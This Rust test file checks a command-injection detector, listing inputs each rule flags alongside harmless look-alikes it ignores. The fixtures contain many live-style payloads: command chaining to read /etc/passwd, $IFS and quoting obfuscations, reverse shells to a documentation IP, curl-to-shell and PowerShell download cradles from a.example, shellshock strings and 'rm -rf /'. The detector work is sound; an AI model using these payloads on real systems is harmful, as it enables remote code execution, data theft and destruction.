//! Commands in every spelling, and what looks like them.

use super::super::tests::{found as found_by, found_at};
use super::*;

/// What all analyzers of commands find.
fn found(text: &str) -> Vec<&'static str> {
    let all = [&ANALYZER, &ALONE, &CALLS, &INVOCATIONS, &SCRIPTS];
    all.into_iter()
        .flat_map(|analyzer| found_by(analyzer, text))
        .collect()
}

#[track_caller]
fn finds(rule: &str, texts: &[&str]) {
    for text in texts {
        assert!(
            found(text).contains(&rule),
            "{rule}: {text}: {:?}",
            found(text)
        );
    }
}

/// A word with a command at its end is no sentence, in a document or elsewhere.
#[test]
fn a_command_in_backquotes_at_the_end_of_a_word_is_put_in() {
    let body = |text: &str| found_at(&ANALYZER, text.as_bytes(), PlaceKind::Body);
    assert_eq!(body("a`id`"), ["run_and_replaced"]);
    assert_eq!(body("127.0.0.1`sleep 5`"), ["run_and_replaced"]);
    assert!(!body("run `id` first").contains(&"run_and_replaced"));
    assert!(!body("please add the $(date) to all logs").contains(&"run_and_replaced"));
    assert_eq!(body("to the $(id)"), ["run_and_replaced"]);
}

#[test]
fn commands_behind_separators_and_in_substitutions_are_found() {
    finds(
        "further_command",
        &[
            "1;id",
            "1 | whoami",
            "a && cat /etc/passwd",
            "127.0.0.1;ls -la",
            "1;openssl s_client -connect a:443",
            "1|id",
            "x|nslookup a.example",
            "& dir C:\\",
            "1;sleep 5",
            "a|ping -c 3 127.0.0.1",
            "x || uname -a",
            "x;/bin/ls",
            "1&ipconfig /all",
            "a;wget http://a.example/x",
            "x\n/usr/bin/id -u",
            "';cat ../../x;'",
            "a;nc -lp 4444",
            ";reboot",
            ";expr 1 + 1",
            "a|expr 268409241 - 2",
            "a;busybox id",
            ";grep root /etc/passwd",
            "a;sleep 5s",
            "a;ls ~",
            "& wmic process list",
            "; $u cat /etc$u/passwd$u",
            "|timeout 5",
            "a|nc a.example 4444",
            "a||head -1 /etc/passwd",
            "1&&ps aux",
            "127.0.0.1;net user",
            "a;echo abc123",
            "1&&echo abc123",
        ],
    );
    finds(
        "run_and_replaced",
        &[
            "$(id)",
            "a$(cat /etc/passwd)b",
            "`whoami`",
            "x`ls -la`",
            "$(sleep 5)",
            "<(curl http://a.example)",
        ],
    );
}

#[test]
fn words_that_hide_a_program_are_found() {
    finds(
        "hidden_command",
        &[
            ";c'a't /etc/passwd",
            "w\"h\"o'a'mi;",
            "c\\at /etc/passwd",
            "/???/c?t /etc/passwd",
            "|/b?n/l?",
            "cu$@rl http://a.example/",
            "/bin/c*t /x",
            "wh$1oami;",
            "who^ami|",
            "/b[i]n/[u]name",
            ";/bin/c[a]t /etc/x",
            "$u/bin$u/cat$u $u/etc$u/passwd$u",
        ],
    );
    finds(
        "variable_for_blank",
        &[
            "cat$IFS/etc/passwd",
            ";cat${IFS}/etc/passwd",
            "ls${IFS}-la",
            "|ping${IFS}-c${IFS}3",
            "$(cat$IFS$9/etc/passwd)",
            "curl$IFS$a.example",
        ],
    );
    finds(
        "remote_shell",
        &[
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "nc 198.51.100.7 4444 -e /bin/sh",
            "curl http://a.example/x | sh",
            "echo aWQ= | base64 -d | bash",
            "IEX(New-Object Net.WebClient).DownloadString('http://a.example')",
        ],
    );
}

#[test]
fn sentences_and_programs_of_other_kinds_are_not() {
    for text in [
        "chicken & fish",
        "Python & Ruby",
        "HTML; CSS; PHP",
        "java|python|php",
        "(java|python|ruby)",
        "docker|kubectl",
        "profit; net 15",
        "Monday & date 12",
        "cost | net -5%",
        "rock & php 8.3",
        "x86_64; curl 8.5.0",
        "Fish & Chips; fish 'n' more",
        "hours; head \"pain\"",
        "dogs; cats",
        "Q&A; more",
        "find & replace",
        "R&D",
        "Tom & Jerry | cat and mouse",
        "a; b; c",
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0)",
        "time & date",
        "it's; who else",
        "price < 5 | price > 10",
        "rock & roll; head over heels",
        "it costs; $five cat food",
        "sort by: name | date",
        "x && y",
        "f(x); g(y)",
        "the host; a party",
        "(less) & (more)",
        "don't 'type' here",
        "50% & more",
        "a|b|c",
        "kill two birds; net gain",
        "echo & the bunnymen",
        "sid=1; theme=dark; id=5",
        "id|name|date",
        "who? what? when?",
        "shutdown; reboot",
        "bunny;echo park",
        "Tom & ping pong",
        "profit & net users",
        "tea; timeout in sports",
        "net 30 days; net user growth",
        "see; head -1 below",
        "a; expr 5",
        "sudo & env",
        "say \"cat\" twice",
    ] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
    let document = "To list files:\n\n    ls -la; cat notes.txt\n\nThen `curl -O https://a.example/x`, and wait.\n";
    assert_eq!(
        found_at(&ANALYZER, document.as_bytes(), PlaceKind::Body),
        [""; 0]
    );
}

/// Neither blanks nor separators hide what comes behind them.
#[test]
fn padding_hides_nothing() {
    let command = |before: &str| {
        found_at(
            &ANALYZER,
            format!("a{before}cat /srv/x.conf").as_bytes(),
            PlaceKind::Body,
        )
    };
    for before in [
        "; ".repeat(2_500),
        format!(";{}", " ".repeat(600)),
        format!("{};", "\n".repeat(90)),
    ] {
        assert!(
            command(&before).contains(&"further_command"),
            "{}",
            before.len()
        );
    }
}

/// Known misses: a program that nobody knows, and commands that need no separator.
#[test]
fn unknown_programs_are_missed() {
    for text in ["x;mytool", "id"] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
}

#[test]
fn many_separators_cost_no_more_than_their_length() {
    for unit in [";", "|a", "$(", "`", "&\"", ";$a", ";????"] {
        found(&unit.repeat(30_000));
    }
    // What stands before or behind is not looked at again for each.
    for text in [
        ["a".repeat(60_000), "|id".repeat(20_000)].concat(),
        [" ".repeat(60_000), "(){".repeat(20_000)].concat(),
        ["(){".repeat(20_000), " ".repeat(60_000)].concat(),
    ] {
        found(&text);
    }
}

#[test]
fn what_a_shell_takes_before_a_command_hides_none() {
    for text in [
        "1;nohup id",
        "1; ! whoami",
        "1;X=1 cat /etc/passwd",
        "1|time exec curl http://a.example/",
        "1;A=b LC_ALL=C uname -a",
        "1|xargs -n1 curl",
    ] {
        assert_ne!(found(text), [""; 0], "{text}");
    }
    for text in [
        "a=1; b=2",
        "wow; ! what",
        "exec; time flies",
        "x; command line tools",
        "k=v; time=5",
    ] {
        assert_eq!(found(text), [""; 0], "{text}");
    }
}

/// Each rule with what it finds in a query, and what looks like that.
#[test]
fn every_rule_finds_its_attacks_and_spares_their_look_alikes() {
    for (rule, fires, spares) in [
        (
            "computed_by_shell",
            &["$((1+2))", "x$(( 40 * 2 ))"][..],
            &["$((a))", "$(1+2)", "$((1))"][..],
        ),
        (
            "run_and_replaced",
            &[
                "$(whoami)",
                "$(printf 'id')",
                "$(printf 'id')",
                "x=`id`",
                "`uname`",
                "\"`id`\"",
            ],
            &["use `less`, please", "$(document).ready", "a (cat) b"],
        ),
        (
            "function_import",
            &[
                "() { :;}; id",
                "() { x;};echo",
                "() { (a)=>\\ id",
                "() { _; } >_[$($())] { id; }",
                "x() { :;};",
            ],
            &[
                "fn() { x }",
                "() => { y; }",
                "a () {",
                "f(){ return 1; }",
                "() {",
            ],
        ),
        (
            "interpreter_call",
            &[
                "system('id')",
                "exec(`x`)",
                "os.system('x')",
                "print(`echo a`)",
                "${proc_open(print",
                "';print(`id`);//",
                "subprocess.run(['id'])",
                "require('child_process')",
                "x = \"id\".execute()",
                "global.process.exit()",
                "eval($_GET[0])",
                "phpinfo()",
                "system( '/usr/bin/id' )",
            ],
            &[
                "system (old)",
                "exec('query')",
                "the print('x') call",
                "blueprint('cat')",
                "subprocess.run",
                "phpinfo",
            ],
        ),
        (
            "value_is_command",
            &[
                "/bin/cat x",
                ";/usr/bin/id",
                "|/bin/sh",
                "whoami",
                "cat /etc/x",
                "dir C:\\",
                "\" ping.exe -n 31 127.0.0.1",
                "uname -a",
                "sleep 5",
                "perl -e 'print 1'",
                "ls -l /home/*",
                "phpinfo();",
                "rm -rf /",
                "net user",
            ],
            &[
                "the /bin/cat file",
                "/bing/cat",
                "cabin/cat",
                "who am i",
                "cat food",
                "ls",
                "sleep well",
                "type 2 diabetes",
                "/usr/bin/env python",
                "net user interface",
                "phpinfo",
                "ping pong table",
            ],
        ),
        (
            "remote_shell",
            &[
                "/dev/tcp/a/1",
                "nc -e /bin/sh x",
                "nc -lvp 4444 x",
                "python -c 'import",
                "ruby -rsocket -e 'x'",
                "x | sh",
                "socat tcp:a:1 exec:sh",
                "mkfifo /tmp/f",
            ],
            &[
                "dev/tcpdump",
                "python is",
                "nice -e",
                "x | shell",
                "ruby -version",
                "bash -in",
            ],
        ),
        (
            "windows_command",
            &[
                "cmd /c dir",
                "powershell -enc x",
                "net user a /add",
                "reg query hklm",
            ],
            &[
                "command /c",
                "the net user",
                "powershell guide",
                "net user a",
            ],
        ),
        (
            "download",
            &["wget http://x", "curl -s https://x", "tftp 192.0.2.1 x"],
            &[
                "curly https://x",
                "wget is",
                "fetch the ball",
                "curl 8.5.0 is out",
            ],
        ),
        (
            "further_command",
            &[
                "a|id|",
                ";ls",
                "&&pwd",
                "; id",
                "a|id",
                "| id",
                "& id",
                "\nid\n",
                "x;id #",
                "; echo vulnerable",
                "; env",
                "& set",
                "192.0.2.1\nid",
                "; find / -perm -4000",
                "|nc 192.0.2.1 9",
            ],
            &[
                "id",
                "a&id=1",
                "rock & roll",
                "time & date",
                "name|id",
                "title|date",
            ],
        ),
        (
            "shell_control",
            &[
                "if [ 1 -eq 1 ]; then x; fi",
                "x=$(echo a)",
                "; for i in 1; do x",
                "s=${#str};",
                "a; then b; fi",
            ],
            &[
                "if [you] then",
                "for a while",
                "do this; then that",
                "wait; then, if all is well",
                "do this; then that; else wait",
            ],
        ),
        (
            "redirection",
            &["cat</etc/x", "x >/tmp/y", "2>&1", "x | tee", "<(id)"],
            &["a > b", "<b>sh</b>", "x | shell", "1 < 2", "a->b", "<a>/b"],
        ),
        (
            "variable_for_blank",
            &["cat$IFS/x", "{cat,/etc/x}", "${IFS}id"],
            &["$if", "gifs", "{cat, dog}", "{a,b}"],
        ),
    ] {
        for text in fires {
            assert!(
                found(text).contains(&rule),
                "{rule}: {text}: {:?}",
                found(text)
            );
        }
        for text in spares {
            assert!(!found(text).contains(&rule), "{rule}: {text}");
        }
    }
}
